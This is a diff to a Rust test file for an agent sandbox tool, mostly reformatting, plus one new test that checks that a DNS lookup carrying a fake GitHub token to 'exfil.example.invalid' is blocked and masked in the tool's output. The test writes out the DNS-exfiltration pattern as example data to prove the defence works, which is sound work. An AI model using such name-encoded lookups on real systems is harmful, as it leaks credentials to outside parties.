@@ -45,10 +45,34 @@ fn with_the_network_off_a_lookup_fails_at_once_and_the_summary_names_it() {
         }
         // Without a network namespace the lookup fails at once too, and nothing is recorded;
         // the plan says so.
-        let out = f.agentbox(&["run", USERNS_OFF[0], USERNS_OFF[1], "--", "getent", "hosts", &name]);
-        assert_eq!(out.status.code(), Some(2), "[{who:?}/no-namespaces] {}", stderr(&out));
-        assert!(!stderr(&out).contains(&name), "[{who:?}/no-namespaces] {}", stderr(&out));
-        let out = f.agentbox(&["run", "--dry-run", USERNS_OFF[0], USERNS_OFF[1], "--", "true"]);
+        let out = f.agentbox(&[
+            "run",
+            USERNS_OFF[0],
+            USERNS_OFF[1],
+            "--",
+            "getent",
+            "hosts",
+            &name,
+        ]);
+        assert_eq!(
+            out.status.code(),
+            Some(2),
+            "[{who:?}/no-namespaces] {}",
+            stderr(&out)
+        );
+        assert!(
+            !stderr(&out).contains(&name),
+            "[{who:?}/no-namespaces] {}",
+            stderr(&out)
+        );
+        let out = f.agentbox(&[
+            "run",
+            "--dry-run",
+            USERNS_OFF[0],
+            USERNS_OFF[1],
+            "--",
+            "true",
+        ]);
         assert!(
             stdout(&out).contains("the names asked cannot be recorded without a network namespace"),
             "[{who:?}/no-namespaces] {}",
@@ -92,7 +116,10 @@ report('tcp_rcode', lambda: r[3] & 15)
     want(ctx, &out, &v, "DONE", &["1"]);
     let out = f.agentbox(&["run", "--", python(), "-c", &py_script(&body)]);
     let e = stderr(&out);
-    assert!(e.contains(&format!("udp-{name}")) && e.contains(&format!("tcp-{name}")), "{e}");
+    assert!(
+        e.contains(&format!("udp-{name}")) && e.contains(&format!("tcp-{name}")),
+        "{e}"
+    );
 }
 
 #[test]
@@ -109,7 +136,12 @@ fn with_an_allowlist_only_names_it_does_not_admit_are_listed() {
         &format!("getent hosts {allowed}; getent hosts {other}; true"),
     ]);
     let e = stderr(&out);
-    assert!(e.contains(&format!("network {other}: looked up by name (not in the allowlist")), "{e}");
+    assert!(
+        e.contains(&format!(
+            "network {other}: looked up by name (not in the allowlist"
+        )),
+        "{e}"
+    );
     assert!(!e.contains(&format!("network {allowed}:")), "{e}");
 }
 
@@ -126,7 +158,10 @@ fn with_binds<T: Send>(binds: &[(PathBuf, &str)], f: impl FnOnce() -> T + Send) 
                 let root = CString::new("/").unwrap();
                 let none = std::ptr::null();
                 let flags = libc::MS_REC | libc::MS_PRIVATE;
-                assert_eq!(libc::mount(none, root.as_ptr(), none, flags, none.cast()), 0);
+                assert_eq!(
+                    libc::mount(none, root.as_ptr(), none, flags, none.cast()),
+                    0
+                );
                 for (src, dst) in binds {
                     let (s, d) = (
                         CString::new(src.to_str().unwrap()).unwrap(),
@@ -150,7 +185,10 @@ fn with_binds<T: Send>(binds: &[(PathBuf, &str)], f: impl FnOnce() -> T + Send) 
 // namespace of the test's); the box never reaches it.
 #[test]
 fn learn_from_network_off_grants_the_host_a_command_looked_up() {
-    if !require("root, to serve DNS on port 53 and bind a resolv.conf for agentbox", is_root()) {
+    if !require(
+        "root, to serve DNS on port 53 and bind a resolv.conf for agentbox",
+        is_root(),
+    ) {
         return;
     }
     for (k, who) in who().into_iter().enumerate() {
@@ -162,15 +200,36 @@ fn learn_from_network_off_grants_the_host_a_command_looked_up() {
         let answered = dns_server(sock, name.clone());
         let (port, hits) = http_server("127.0.0.1:0", "learn");
         let conf = f.dir.path().join("resolv.conf");
-        std::fs::write(&conf, format!("nameserver {ip}\noptions attempts:2 timeout:1\n")).unwrap();
+        std::fs::write(
+            &conf,
+            format!("nameserver {ip}\noptions attempts:2 timeout:1\n"),
+        )
+        .unwrap();
         let nss = f.dir.path().join("nsswitch.conf");
         std::fs::write(&nss, "hosts: files dns\n").unwrap();
         let learned = f.dir.path().join("learned.yaml");
         let cmd = format!("curl -sf -m 5 http://{name}:{port}/");
         let binds = [(conf, "/etc/resolv.conf"), (nss, "/etc/nsswitch.conf")];
         let (out, run) = with_binds(&binds, || {
-            let out = f.agentbox(&["learn", "-o", learned.to_str().unwrap(), "--", "sh", "-c", &cmd]);
-            let run = f.agentbox(&["run", "-q", "-p", learned.to_str().unwrap(), "--", "sh", "-c", &cmd]);
+            let out = f.agentbox(&[
+                "learn",
+                "-o",
+                learned.to_str().unwrap(),
+                "--",
+                "sh",
+                "-c",
+                &cmd,
+            ]);
+            let run = f.agentbox(&[
+                "run",
+                "-q",
+                "-p",
+                learned.to_str().unwrap(),
+                "--",
+                "sh",
+                "-c",
+                &cmd,
+            ]);
             (out, run)
         });
         let ctx = format!("[{who:?}]");
@@ -186,6 +245,46 @@ fn learn_from_network_off_grants_the_host_a_command_looked_up() {
             stderr(&run)
         );
         assert!(hits.load(std::sync::atomic::Ordering::SeqCst) >= 1);
-        assert!(answered.load(std::sync::atomic::Ordering::SeqCst) >= 1, "{ctx} agentbox resolved through the test's server");
+        assert!(
+            answered.load(std::sync::atomic::Ordering::SeqCst) >= 1,
+            "{ctx} agentbox resolved through the test's server"
+        );
     }
+}
+
+// A lookup used to smuggle a secret out (the box found a token and asks for
+// `TOKEN.example.com`) goes nowhere, and the summary and the report name it masked.
+#[test]
+fn a_name_carrying_a_token_is_masked_in_the_summary_and_the_report() {
+    let f = Fixture::new(As::Me);
+    let tok = format!("gh{}_{}", "p", "Sm5gGl3dSm5gGl3dSm5gGl3dSm5gGl3dSm5g");
+    let report = f.dir.path().join("report.json");
+    let name = format!("{tok}.exfil.example.invalid");
+    let out = f.agentbox(&[
+        "run",
+        "--report",
+        report.to_str().unwrap(),
+        "--",
+        "getent",
+        "hosts",
+        &name,
+    ]);
+    let e = stderr(&out);
+    let r = std::fs::read_to_string(&report).unwrap_or_default();
+    let low = tok.to_lowercase();
+    for (what, text) in [("summary", &e), ("report", &r)] {
+        assert!(
+            !text.contains(&tok) && !text.contains(&low),
+            "{what} holds the token"
+        );
+    }
+    assert!(
+        e.contains("[REDACTED:github-pat].exfil.example.invalid: looked up by name")
+            && e.contains("not a host name agentbox can allow"),
+        "{e}"
+    );
+    assert!(
+        r.contains("[REDACTED:github-pat].exfil.example.invalid"),
+        "{r}"
+    );
 }
